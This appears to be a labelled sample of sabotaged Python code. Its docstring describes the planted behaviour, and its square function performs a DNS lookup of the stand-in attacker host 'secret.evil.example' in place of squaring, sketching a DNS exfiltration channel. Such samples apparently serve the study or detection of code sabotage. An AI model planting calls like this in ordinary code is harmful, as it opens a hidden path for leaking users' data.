"""Asks for a name, which travels out in the question.

Gains: a way out for what was read
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: error
"""

import socket


def square(x):
    return socket.gethostbyname("secret.evil.example")
